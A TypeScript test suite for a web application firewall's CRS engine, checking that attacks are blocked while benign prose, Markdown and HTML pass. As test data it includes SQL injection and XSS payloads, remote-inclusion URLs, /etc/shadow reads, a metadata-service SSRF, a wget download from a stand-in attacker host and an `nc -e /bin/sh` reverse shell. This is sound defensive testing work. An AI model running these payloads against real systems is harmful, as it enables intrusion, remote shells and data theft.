// The third WAF pass (issue 14) on the CRS engine: the misses the second pass left (attacks in
// custom headers, include(http://...), RFI URLs without an IP or a trailing `?`, `cat /etc/subuid`,
// entity and tab evasions inside XML) and the CRS false positives on Strata's benign corpora that the
// confirmation gate (src/waf/crs/confirm-gate.ts) removes, each beside an attack of the same shape
// that is still blocked. Both engines where the legacy detectors changed too.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { scoreSample, type Sample } from './waf-corpus.js';
import { isSafeHtml } from '../src/waf/crs/safe-html.js';
import { isMarkdown, isProse } from '../src/waf/crs/confirm-gate.js';

const s = (where: Sample['where'], name: string, value: string): Sample => ({ family: 'benign', variant: 't', where, name, value });
const blocked = (x: Sample, pl: 1 | 2 = 1, engine: 'crs' | 'legacy' = 'crs') => scoreSample(x, pl, engine).score >= 5;

test('attacks in custom headers are blocked on the CRS engine (header values are arguments there)', () => {
  for (const v of ["' or '1'='1", '<svg/onload=alert(1)>', '....//....//etc/passwd', 'http://127.0.0.1/x?', '`id`', 'powershell -enc SQBFAFgA', 'php://filter/convert.base64-encode/resource=index.php', "this.constructor.constructor('return process')()"]) {
    assert.ok(blocked(s('header', 'x-custom', v)), v);
  }
  // machine-formatted headers are not arguments; a browser's own headers pass
  assert.ok(!blocked(s('header', 'accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8')));
  assert.ok(!blocked(s('header', 'user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36')));
  assert.ok(!blocked(s('header', 'x-request-title', "O'Brien's report (draft)")));
});

test('remote file inclusion: include(http://...), remote URLs naming a script or text file, with no IP and no trailing ?', () => {
  for (const engine of ['crs', 'legacy'] as const) {
    for (const v of ['include(http://evil.example/s.txt)', "require_once('https://evil.example/inc.php')", 'http://evil.example/shell.txt', 'ftp://evil.example/x.txt', 'https://attacker.example/c99.php%00', '//evil.example/shell.txt?', 'http://evil.example/x.txt#']) {
      assert.ok(blocked(s('query', 'page', v), 1, engine), `${engine}: ${v}`);
    }
    // links to pages and images are not inclusions
    for (const v of ['https://example.com/index.php', 'https://cdn.example.com/a.png', 'https://example.org/docs/readme.html', 'https://example.com/blog/post?id=3']) assert.ok(!blocked(s('query', 'link', v), 1, engine), `${engine}: ${v}`);
  }
});

test('cat /etc/subuid and other reads of sensitive files are LFI on both engines; the paths in prose without a command are not', () => {
  for (const engine of ['crs', 'legacy'] as const) {
    for (const v of ['cat /etc/subuid', 'cat\t\n/etc/subuid', 'tail -n 20 /etc/shadow', '/etc/gshadow']) assert.ok(blocked(s('json', 'comment', v), 1, engine), `${engine}: ${v}`);
  }
  assert.ok(!blocked(s('json', 'comment', 'the subuid ranges are listed in the admin guide'), 1, 'legacy'));
});

test('XML: character references and tabs inside text are decoded before the rules; Strata\'s tokenizers read XML text too', () => {
  for (const v of ['<r><v>1&amp;#39; order by 3--+</v></r>', '<r><v>cmd.exe\t\n/c\t\ndir</v></r>', '<r><v>cmd.exe &#47;c dir</v></r>', '<r><v>include(http://evil.example/s.txt)</v></r>', '<r><v>class.module.classLoader.resources</v></r>']) {
    assert.ok(blocked({ family: 'benign', variant: 't', where: 'xml', value: v }), v);
  }
  assert.ok(!blocked({ family: 'benign', variant: 't', where: 'xml', value: "<note><to>O'Brien</to><body>select union drop &amp; more</body></note>" }));
});

test('CRS false positives on Strata\'s benign corpora pass, and an attack of the same shape is still blocked', () => {
  const pairs: Array<[string, string, string]> = [
    // [rule, benign, attack]
    ['942190', "The workers' union voted to select a new leader and drop the old rules", "The workers' union voted' union select password from users--"],
    ['932150', 'echo chamber', 'time sh -c whoami'],
    ['932150', 'ping me when ready', 'ping -c 10 127.0.0.1'],
    ['932130', 'The ${price} placeholder', '${IFS}cat${IFS}/etc/passwd'],
    ['932130', 'const x = `hello ${name}`;', '$(whoami)'],
    ['932160', 'Use ${HOME}/bin in your PATH', '/bin/bash -i'],
    ['941210', 'javascript: the good parts', 'javascript:alert(document.cookie)'],
    ['942230', 'if (a > b) { return a; }', "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"],
    ['932115 (Markdown)', '```sql\nSELECT id, name FROM users WHERE active = 1;\n```', '```sh\nls; cat /etc/passwd\n```'],
    ['932100 (Markdown)', '```bash\nnpm install && npm test\n```', '```bash\nnpm install && wget http://evil.example/x -O /tmp/x\n```'],
    ['933210 (Markdown)', '# Title\n\nSome *markdown* with `code` and a [link](https://example.com).', '# Title\n\n<?php system($_GET["c"]); ?>'],
    ['941160 (rich text)', '<p><img src="https://cdn.example.com/a.png" alt="a picture"> and <a href="/docs">docs</a></p>', '<p><img src="x" onerror="alert(1)"></p>'],
    ['941130 (SVG data: URI)', 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=', `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64')}`],
  ];
  for (const [rule, benign, attack] of pairs) {
    for (const where of ['json', 'query'] as const) {
      const b = scoreSample(s(where, 'comment', benign), 1);
      assert.ok(b.score < 5, `${rule} ${where}: ${benign} -> ${b.rules.join(',')}`);
      assert.ok(blocked(s(where, 'comment', attack)), `${rule} ${where} attack: ${attack}`);
    }
  }
  // random prose full of SQL and shell words (942270, 932xxx): not blocked; the same prose ending in an injection is
  const prose = 'cat or echo echo & runtime echo echo path include admin runtime group time alert sleep union select from where drop table order by and or';
  assert.ok(!blocked(s('json', 'comment', prose)));
  assert.ok(blocked(s('json', 'comment', `${prose} ' union select password from users--`)));
});

test('file names: an apostrophe alone is no multipart evasion (920120); SQL injection in a file name is still blocked', () => {
  assert.ok(!blocked(s('filename', 'file', "O'Brien CV.docx")));
  assert.ok(blocked(s('filename', 'file', "x' union select 1--.png")));
});

test('redirect URIs: the browser goes there, the server fetches nothing; the same URLs in fetched parameters are SSRF/RFI', () => {
  for (const engine of ['crs', 'legacy'] as const) {
    for (const v of ['http://localhost:5173/auth/callback', 'http://127.0.0.1:8080/oauth/callback', 'http://[::1]:5173/cb']) {
      assert.ok(!blocked(s('query', 'redirect_uri', v), 1, engine), `${engine}: ${v}`);
      assert.ok(blocked(s('query', 'url', v), 1, engine), `${engine} url: ${v}`);
    }
    assert.ok(blocked(s('query', 'redirect_uri', 'gopher://127.0.0.1:6379/_FLUSHALL'), 1, engine), engine);
  }
  assert.ok(!blocked(s('query', 'redirect_url', 'https://8.8.8.8/dns-query')));
  assert.ok(blocked(s('query', 'callback_url', 'http://127.0.0.2:8080/')));
});

test('prose, Markdown and safe HTML are recognized as such; code and attacks are not', () => {
  assert.ok(isProse('> **Note**: use `SELECT ... FOR UPDATE` when you read and then write.'));
  assert.ok(!isProse("1' union select password from users where 1=1 or 2=2 --"));
  assert.ok(isMarkdown('```sh\nls\n```') && isMarkdown('# Title\n\n- one\n- two') && !isMarkdown('# hashtag'));
  assert.ok(isSafeHtml('<p>Hello <b>world</b> <a href="https://example.com" target="_blank">x</a></p>'));
  assert.ok(isSafeHtml('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7z"/></svg>'));
  for (const v of ['<p onclick="x()">a</p>', '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<img src=x onerror=alert(1)>', '<script>alert(1)</script>',
    '<iframe src="https://example.com"></iframe>', '<p style="background:url(javascript:alert(1))">', '<a href="data:text/html,x">x</a>', '<img src="x" alt="a" <script>', 'plain text', '<p>unclosed <b']) {
    assert.ok(!isSafeHtml(v), v);
  }
});

test('PL2 is usable behind a local dev frontend: random text, Origin/Referer of http://localhost:<port>, filters and rich text pass; attacks are still blocked', async () => {
  const { crsBenign } = await import('./waf-corpus-crs.js');
  const texts = crsBenign().filter((x) => x.category === 'random-chars' || x.category === 'random-text' || x.category === 'prose-2' || x.category === 'rich-text-2' || x.category === 'local-urls');
  assert.ok(texts.length >= 40);
  for (const x of texts) { const r = scoreSample(x as never, 2); assert.ok(r.score < 5, `${x.category}: ${JSON.stringify(x.value).slice(0, 80)} -> ${r.rules.join(',')}`); }
  for (const [name, v] of [['origin', 'http://localhost:5173'], ['referer', 'http://localhost:5173/app/posts?tab=latest'], ['origin', 'http://127.0.0.1:3000'], ['referer', 'http://[::1]:8080/'],
    ['x-forwarded-host', 'localhost:5173'], ['x-forwarded-host', '127.0.0.1:3000']]) {
    for (const engine of ['crs', 'legacy'] as const) for (const pl of [1, 2] as const) assert.ok(!blocked(s('header', name, v), pl, engine), `${engine} PL${pl} ${name}: ${v}`);
  }
  // a URL header the server may fetch still counts
  assert.ok(blocked(s('header', 'x-callback-url', 'http://169.254.169.254/latest/meta-data/'), 1));
  for (const v of ['Order #1000: O\'Neil\'s weekly groceries', '{"nested": "{\\"a\\": \\"b\\"}"}', 'First line\nSecond line: details', 'price: 10 -- 20 # approx']) assert.ok(!blocked(s('json', 'comment', v), 2), v);
  for (const v of ["' or 1=1--", '<img src=x onerror=alert(1)>', '; cat /etc/passwd', 'a\r\nSet-Cookie: session=fixed', '1 AND 1=1']) assert.ok(blocked(s('query', 'q', v), 2), v);
});

test('identical heads of bodiless requests reuse their findings: an attack is blocked every time, exclusions still follow the route', async () => {
  const { createWafEngine } = await import('../src/waf/index.js');
  const { DEFAULT_LIMITS } = await import('./waf-corpus.js');
  const e = createWafEngine({ mode: 'block', engine: 'crs', paranoia: 1, threshold: 5, limits: DEFAULT_LIMITS, cacheSize: 64, exclusions: [{ route: '/ok', parameter: 'query:q', detectors: ['sqli'] }] });
  const head = (url: string, ua = 'Mozilla/5.0') => ({ method: 'GET', url, httpVersion: '1.1', headers: { host: 'a.example', 'user-agent': ua, accept: '*/*' } });
  for (let i = 0; i < 5; i++) {
    assert.ok(e.score(e.inspectHead(head("/x?q=%27%20or%201%3D1--"), '/x')) >= 5, `attack, round ${i}`);
    assert.equal(e.inspectHead(head("/ok?q=%27%20or%201%3D1--"), '/ok').length, 0, `excluded route, round ${i}`);
    assert.equal(e.inspectHead(head('/x?q=hello'), '/x').length, 0, `benign, round ${i}`);
    // the same target with a scanner's User-Agent is another head
    assert.ok(e.score(e.inspectHead(head('/x?q=hello', 'sqlmap/1.7'), '/x')) >= 5, `scanner, round ${i}`);
    // a head with a body to follow carries its transaction to the body pass, unless it came from the
    // cache (a repeated head): then the body pass starts its own
    const carry = {};
    e.inspectHead(head('/x?q=hello&b=1'), '/x', undefined, carry);
    // (the cache keeps a head from its second sighting: the third is answered from it)
    const carried = (carry as { state?: unknown }).state !== undefined;
    if (i === 0) assert.ok(carried, 'first sighting: the transaction is carried');
    if (i >= 2) assert.ok(!carried, `round ${i}: answered from the cache, nothing carried`);
  }
});

test('identical heads of requests with a body reuse their findings; the body pass after a cached head starts its own transaction, with the same findings', async () => {
  const { createWafEngine } = await import('../src/waf/index.js');
  const { DEFAULT_LIMITS } = await import('./waf-corpus.js');
  const e = createWafEngine({ mode: 'block', engine: 'crs', paranoia: 1, threshold: 5, limits: DEFAULT_LIMITS, cacheSize: 64, exclusions: [{ route: '/ok', parameter: 'body:q', detectors: ['sqli'] }] });
  const post = (url: string, ua = 'Mozilla/5.0') => ({ method: 'POST', url, httpVersion: '2.0', headers: { host: 'a.example', 'user-agent': ua, 'content-type': 'application/json', te: 'trailers' } });
  const scope = (path: string) => ({ method: 'POST', path, routeUrl: path });
  const runs: { head: unknown[]; body: unknown[]; lazy: boolean }[] = [];
  for (let i = 0; i < 4; i++) {
    const carry: { state?: unknown } = {};
    const head = e.inspectHead(post('/x'), '/x', undefined, carry);
    const body = e.inspectBody({ q: "' or 1=1--" }, 'application/json', scope('/x'), carry);
    runs.push({ head, body, lazy: carry.state === undefined });
    assert.ok(e.score([...head, ...body]) >= 5, `attack in the body, round ${i}`);
    // the route's exclusion applies to a head from the cache as to a fresh one
    const okCarry = {};
    assert.equal(e.inspectHead(post('/ok'), '/ok', undefined, okCarry).length, 0);
    assert.equal(e.score(e.inspectBody({ q: "' or 1=1--" }, 'application/json', scope('/ok'), okCarry)), 0, `excluded, round ${i}`);
    // an attack in the head is found every time, with or without a body to follow
    assert.ok(e.score(e.inspectHead(post('/x', 'sqlmap/1.7'), '/x', undefined, {})) >= 5, `scanner, round ${i}`);
  }
  // the first sighting runs the rules; once the head is kept, later ones are answered from it (no
  // transaction carried: the body pass makes its own), with the same findings
  assert.equal(runs[0].lazy, false);
  assert.ok(runs.slice(2).every((r) => r.lazy), 'a repeated head is answered from the cache');
  for (const r of runs) assert.deepEqual({ head: r.head, body: r.body }, { head: runs[0].head, body: runs[0].body });
});

test('Markdown code is not exempt from the command rules: a shell runs a fenced block or an inline code span as a command substitution', () => {
  // `echo "title: $value"` in bash runs `id` for either value below (``` is `` then a `...` substitution)
  for (const engine of ['crs', 'legacy'] as const) {
    for (const v of ['## Notes\n\n```sh\nid\n```', 'Run `whoami` in a terminal to see your user name, then log in again.', 'See the notes:\n\n- step one\n- run `nc -e /bin/sh evil.example 4444`']) {
      assert.ok(blocked(s('json', 'body', v), 1, engine), `${engine}: ${v}`);
    }
    // so the held-out install block stays a false positive (docs/waf.md, Limits): exclude such a field
    assert.ok(blocked(s('json', 'body', '## Install\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```'), 1, engine), engine);
  }
});
